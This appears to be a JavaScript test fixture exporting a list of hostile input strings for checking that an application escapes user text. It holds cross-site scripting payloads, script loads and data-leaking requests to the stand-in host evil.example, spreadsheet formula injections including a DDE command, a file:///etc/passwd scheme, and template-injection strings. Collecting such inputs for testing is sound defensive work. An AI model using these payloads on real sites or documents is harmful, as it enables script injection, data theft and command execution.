/** Two hundred texts that somebody may type to do harm, or that do it by chance. */

const scripts = [
  '<script>alert(1)</script>', '"><script>alert(1)</script>', "'><script>alert(1)</script>", '</textarea><script>alert(1)</script>', '</title><script>alert(1)</script>',
  '<ScRiPt>alert(1)</sCrIpT>', '<script src=//evil.example/x.js></script>', '<script\n>alert(1)</script\n>', '<<script>alert(1);//<</script>', '<script>/*\n*/alert(1)</script>',
  '<script type="module">import "//evil.example/x.js"</script>', '<noscript><p title="</noscript><script>alert(1)</script>">', '<template><script>alert(1)</script></template>',
  '<svg><script>alert(1)</script></svg>', '<svg><script href="//evil.example/x.js"/></svg>', '<math><script>alert(1)</script></math>', '<xmp><script>alert(1)</script></xmp>',
  '<!--><script>alert(1)</script-->', '<![CDATA[<script>alert(1)</script>]]>', '<?xml version="1.0"?><script>alert(1)</script>', '&lt;script&gt;alert(1)&lt;/script&gt;', '&#60;script&#62;alert(1)&#60;/script&#62;',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e', '%3Cscript%3Ealert(1)%3C/script%3E', '+ADw-script+AD4-alert(1)+ADw-/script+AD4-', '＜script＞alert(1)＜/script＞', '<script>alert`1`</script>',
];
const handlers = [
  'onerror', 'onload', 'onclick', 'onfocus', 'onmouseover', 'onanimationstart', 'ontoggle', 'onpointerover', 'onbeforetoggle', 'onscrollend',
].flatMap((on) => [`<img src=x ${on}=alert(1)>`, `<svg ${on}=alert(1)>`, `" ${on}="alert(1)" x="`, `' autofocus ${on}='alert(1)`]);
const elements = [
  '<iframe src="javascript:alert(1)"></iframe>', '<iframe srcdoc="<script>alert(1)</script>"></iframe>', '<object data="javascript:alert(1)"></object>', '<embed src="javascript:alert(1)">',
  '<a href="javascript:alert(1)">x</a>', '<a href="data:text/html,<script>alert(1)</script>">x</a>', '<a href="//evil.example/">x</a>', '<form action="//evil.example/"><input name=x><button>x</button></form>',
  '<base href="//evil.example/">', '<link rel=stylesheet href="//evil.example/x.css">', '<meta http-equiv=refresh content="0;url=//evil.example/">', '<style>@import "//evil.example/x.css";</style>',
  '<style>*{background:url(//evil.example/x)}</style>', '<div style="background:url(//evil.example/x)">x</div>', '<img src="//evil.example/x.png">', '<img srcset="//evil.example/x.png 1x">',
  '<video poster="//evil.example/x.png"></video>', '<audio src="//evil.example/x.mp3" autoplay></audio>', '<input type=image src="//evil.example/x.png">', '<body background="//evil.example/x.png">',
  '<details open ontoggle=alert(1)>', '<dialog open>x</dialog>', '<marquee onstart=alert(1)>x</marquee>', '<slot name=x>', '<vademecum-assessment src="//evil.example/x.json"></vademecum-assessment>',
  '<svg><use href="//evil.example/x.svg#a"/></svg>', '<svg><foreignObject><iframe src="//evil.example/"></iframe></foreignObject></svg>', '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math href="javascript:alert(1)">x</math>', '<portal src="//evil.example/">', '<applet code=x>', '<isindex action="javascript:alert(1)">', '<textarea autofocus onfocus=alert(1)>', '<select onfocus=alert(1) autofocus>',
  '</section></form></main><h1>x</h1>', '</td></tr></table><b>x</b>', '<plaintext>', '<b>bold</b>', '<u>x', '<h1>heading</h1>',
];
const schemes = ['javascript:alert(1)', 'JaVaScRiPt:alert(1)', 'java\tscript:alert(1)', '\u0001javascript:alert(1)', 'vbscript:x', 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==', 'file:///etc/passwd', 'mailto:a@example.org?bcc=b@example.org', 'http://evil.example/', '//evil.example/x'];
const templates = ['{{constructor.constructor("alert(1)")()}}', '${alert(1)}', '#{alert(1)}', '<%= alert(1) %>', '{name}', '{party} {risk} {criterion}', '{{name}}', '$&$1$`', '%s%n%x', '\\', '\\\\', '\\"', "\\'", '"', "'", '`', '";alert(1)//', "';alert(1)//", '*/alert(1)/*', '-->', ']]>', '<!--', '&', '&amp;', '&nbsp;', '&#0;'];
const formulas = ['=1+1', '+1+1', '-1+1', '@SUM(1)', '=HYPERLINK("http://evil.example/?"&A1,"x")', "=cmd|' /C calc'!A0", '=IMPORTXML("http://evil.example/","//a")', '=WEBSERVICE("http://evil.example/")', '\t=1+1', '＝1+1', '＋1', '－1', '＠SUM(1)', ' =1+1', '"=1+1', ';=1+1'];
const characters = [
  '\u202eevil\u202c', '\u2066\u2067x\u2069', '\u200f\u200e', 'a\u200bb', 'a\u00adb', '\ufeffx', '\u0300\u0301\u0302x', `Z${'\u0336\u0489'.repeat(30)}`, '\u0007\u0008\u001b[31mred\u001b[0m', '\u0000x', 'a\u0085b', 'a\u2028b\u2029c', '\ufffe\uffff', '\u{1f468}\u200d\u{1f469}\u200d\u{1f467}',
  '\u{e0041}\u{e0042}', 'مرحبا بالعالم', 'שלום עולם', 'مرحبا <script>alert(1)</script> عالم', 'Ἀθήνα', '日本語テキスト', 'ﷺ', 'İıſK', 'ß ẞ', 'e\u0301 é', '\u00a0\u202f\u2003', '\ud800', 'x\udc00', 'constructor', '__proto__', 'toString', 'undefined', 'null', 'NaN', 'true', '0', '-0', '1e999',
];
const long = ['x'.repeat(3000), 'mot '.repeat(700).trim(), `https://example.org/${'a'.repeat(1500)}`, '<b>'.repeat(700), '\u{1f600}'.repeat(500), 'ligne\n'.repeat(100).trim()];

export const hostile = [...scripts, ...handlers, ...elements, ...schemes, ...templates, ...formulas, ...characters, ...long];
